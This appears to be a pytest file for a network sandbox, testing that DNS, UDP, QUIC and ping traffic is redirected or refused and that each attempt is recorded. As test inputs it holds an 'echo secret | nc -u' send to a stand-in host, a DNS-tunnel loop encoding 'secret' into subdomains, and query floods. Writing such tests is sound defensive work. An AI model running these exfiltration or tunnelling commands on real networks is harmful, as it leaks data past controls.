"""What goes out by neither TCP nor the stub: DNS to elsewhere, ping, QUIC, other UDP. Each try leaves its receipt."""

from __future__ import annotations

import sys

import pytest
from tests.runs.launch import DENIAL_SECONDS, Place, write_policy

pytestmark = [pytest.mark.sandbox, pytest.mark.programs]

NAME = "api.example.com"
ALLOWS = write_policy(NAME, "*.wild.example")
SYNTHETIC = ("198.18.", "198.19.", "fd74:7269:6f65:6772:")
DIG = ["dig", "+time=15", "+tries=1"]


# DNS


@pytest.mark.parametrize("over", ["udp", "tcp"])
def test_every_name_server_is_the_stub(place: Place, over: str) -> None:
    servers = ["@8.8.8.8", "@2001:4860:4860::8888", "@127.0.0.1", "@192.168.1.1"]
    flag = {"udp": "+notcp", "tcp": "+tcp"}[over]
    questions = [
        word for server in servers for kind in ("A", "AAAA") for word in (server, NAME, kind, "+short")
    ]
    ended = place.run_timed(ALLOWS, *DIG, flag, *questions)
    addresses = ended.text.split()
    assert len(addresses) == 2 * len(servers)
    assert len(set(addresses)) == 2
    assert all(address.startswith(SYNTHETIC) for address in addresses)
    assert ended.took < DENIAL_SECONDS
    told = {(q.verdict, q.target, q.facts["over"]) for q in ended.queries}
    assert told == {("allow", f"dns:{NAME}", over)}
    assert sum(q.facts["count"] for q in ended.queries) == 2 * len(servers)
    assert ended.blocks == []
    assert ended.verify() == 0


@pytest.mark.parametrize("over", ["udp", "tcp"])
def test_a_denied_name_is_refused_with_the_reason(place: Place, over: str) -> None:
    kinds = ["A", "AAAA", "TXT", "MX", "HTTPS", "SRV"]
    flag = {"udp": "+notcp", "tcp": "+tcp"}[over]
    questions = [word for kind in kinds for word in ("@8.8.8.8", "secret.evil.example", kind)]
    ended = place.run_timed(ALLOWS, *DIG, flag, *questions)
    assert ended.text.count("status: NXDOMAIN") == len(kinds)
    assert ended.text.count("EDE: 15 (Blocked): (no rule allows secret.evil.example)") == len(kinds)
    assert ended.took < DENIAL_SECONDS
    assert {query.facts["rdtype"] for query in ended.queries} == set(kinds)
    assert ended.verify() == 0
    assert ended.verify_foreign() == 0


def test_an_allowed_name_has_addresses_and_nothing_else(place: Place) -> None:
    """No HTTPS record means no ECH configuration; no TXT means that nothing comes in that way."""
    kinds = ["TXT", "HTTPS", "SVCB", "MX", "NS", "CNAME"]
    questions = [word for kind in kinds for word in ("@1.1.1.1", NAME, kind)]
    ended = place.run_timed(ALLOWS, *DIG, *questions)
    assert ended.text.count("status: NOERROR") == ended.text.count("ANSWER: 0") == len(kinds)
    assert ended.took < DENIAL_SECONDS
    assert {query.verdict for query in ended.queries} == {"allow"}
    assert ended.verify() == 0


def test_a_tunnel_of_names_leads_nowhere(place: Place) -> None:
    """Fifty names of a denied domain: each is refused and counted, and none is asked of anybody."""
    script = 'for n in $(seq 50); do echo "$n-c2VjcmV0.evil.example TXT"; done >names; dig +tries=1 +short -f names'
    ended = place.run(ALLOWS, "sh", "-c", script)
    assert ended.text.strip() == ""
    refused = {query.target: query.facts["count"] for query in ended.queries}
    assert len(refused) == 50
    assert sum(refused.values()) == 50
    assert ended.counters["dns_udp"] == 50
    assert ended.verify() == 0


def test_a_flood_of_queries_is_counted_exactly(place: Place) -> None:
    """More than the stub can read, by a client that waits for no answer: the kernel's count is that of the receipts."""
    script = """
import socket
query = bytes.fromhex("123401000001000000000000") + b"\\x04evil\\x07example\\x00" + bytes.fromhex("00010001")
sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
sock.connect(("8.8.8.8", 53))
for _ in range(40000):
    sock.send(query)
"""
    ended = place.run(ALLOWS, sys.executable, "-I", "-S", "-c", script)
    assert ended.code == 0
    assert sum(query.facts["count"] for query in ended.queries) == ended.counters["dns_udp"] == 40000
    assert len(ended.queries) < 50
    assert ended.verify() == 0


def test_a_wildcard_has_one_address_for_each_name(place: Place) -> None:
    names = ["a.wild.example", "b.wild.example", "a.wild.example", "wild.example"]
    ended = place.run(ALLOWS, *DIG, "+short", *names)
    first, second, again = ended.text.split()
    assert first == again != second
    assert {query.target for query in ended.queries if query.verdict == "block"} == {"dns:wild.example"}
    assert ended.verify() == 0


def test_reverse_names_are_refused(place: Place) -> None:
    ended = place.run_timed(ALLOWS, *DIG, "-x", "8.8.8.8")
    assert "status: NXDOMAIN" in ended.text
    assert ended.took < DENIAL_SECONDS
    assert ended.verify() == 0


def test_nothing_that_the_stub_cannot_read_goes_unanswered_or_uncounted(place: Place) -> None:
    script = """
import socket
sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
sock.settimeout(60)
two_questions = bytes.fromhex("123401000002000000000000") + bytes.fromhex("0000010001") * 2
for raw in (b"", b"x", bytes(12), two_questions):
    sock.sendto(raw, ("8.8.8.8", 53))
print(sock.recv(512).hex())
"""
    ended = place.run(ALLOWS, sys.executable, "-I", "-S", "-c", script)
    assert ended.code == 0
    assert sum(query.facts["count"] for query in ended.queries) == ended.counters["dns_udp"] == 4
    assert {query.layer for query in ended.queries} == {"malformed"}
    assert ended.verify() == 0


# anything else

SEND = """
import socket, sys
size, times, refused = int(sys.argv[1]), int(sys.argv[2]), 0
for host, port in zip(sys.argv[3::2], sys.argv[4::2]):
    with socket.socket(socket.AF_INET6 if ":" in host else socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.settimeout(2)
        sock.connect((host, int(port)))
        for _ in range(times):
            try:
                sock.send(bytes(size))
                sock.recv(1)
            except OSError as error:
                refused += 1
print(refused)
"""


def send(*endpoints: tuple[str, int], size: int = 1200, times: int = 1) -> list[str]:
    words = [str(word) for endpoint in endpoints for word in endpoint]
    return [sys.executable, "-I", "-S", "-c", SEND, str(size), str(times), *words]


def test_udp_is_refused_at_once_and_recorded(place: Place) -> None:
    hosts = {
        "203.0.113.7": "203.0.113.7",
        "2001:db8::7": "[2001:db8::7]",
        "169.254.169.254": "169.254.169.254",
    }
    endpoints = [(host, port) for host in hosts for port in (443, 123, 4433)]
    ended = place.run_timed(ALLOWS, *send(*endpoints))
    assert (ended.code, ended.text) == (0, f"{len(endpoints)}\n")
    assert ended.took < DENIAL_SECONDS
    assert [block.target for block in ended.blocks] == [
        f"udp://{hosts[host]}:{port}" for host, port in endpoints
    ]
    for block, (_, port) in zip(ended.blocks, endpoints, strict=True):
        assert (block.transport, block.layer, block.facts["count"]) == ("packet", "kernel", 1)
        assert ("QUIC" in block.reason) == (port == 443)
    assert ended.counters["udp"] == len(endpoints)
    assert ended.verify() == 0
    assert ended.verify_foreign() == 0


def test_udp_to_an_allowed_name_is_refused_too(place: Place) -> None:
    """A policy allows what the proxy can judge, and that is TCP."""
    ended = place.run_timed(ALLOWS, *send((NAME, 443)))
    assert ended.text == "1\n"
    assert ended.block.layer == "kernel"
    assert ended.took < DENIAL_SECONDS
    assert ended.verify() == 0


def test_a_flood_is_counted_exactly_in_few_receipts(place: Place) -> None:
    ended = place.run(ALLOWS, *send(("203.0.113.7", 9999), size=64, times=5000))
    assert sum(block.facts["count"] for block in ended.blocks) == ended.counters["udp"] >= 2500
    assert len(ended.blocks) < 50
    assert ended.verify() == 0


def test_nc_over_udp_is_recorded(place: Place) -> None:
    ended = place.run(ALLOWS, "bash", "-c", "echo secret | nc -u -w 1 203.0.113.7 514")
    assert ended.blocks[0].target == "udp://203.0.113.7:514"
    assert sum(block.facts["count"] for block in ended.blocks) == ended.counters["udp"]
    assert ended.verify() == 0


@pytest.mark.parametrize("address", ["203.0.113.7", "2001:db8::7", "api.example.com"])
def test_ping_is_denied_at_once(place: Place, address: str) -> None:
    """The program may carry a capability, with which it does not even start; without it, it gets no socket."""
    script = f"ping -c 1 {address} && exit 99; cp $(command -v ping) mine; exec ./mine -c 1 -W 2 {address}"
    ended = place.run_timed(ALLOWS, "bash", "-c", script)
    assert ended.code == 2
    assert "not permitted" in ended.err
    assert ended.took < DENIAL_SECONDS
    raw = ("AF_INET, SOCK_RAW, 1", "AF_INET6, SOCK_RAW, 58")
    assert {(b.target, b.facts["detail"] in raw) for b in ended.blocks} == {("syscall:socket", True)}
    assert ended.verify() == 0


def test_a_run_that_sends_nothing_counts_nothing(place: Place) -> None:
    ended = place.run(write_policy(), "true")
    assert ended.receipts == []
    # `lo` carries the kernel's own packets, and those of the probes before the agent.
    assert {count for name, count in ended.counters.items() if name != "interface"} == {0}
    assert ended.verify() == 0
    assert ended.verify_foreign() == 0
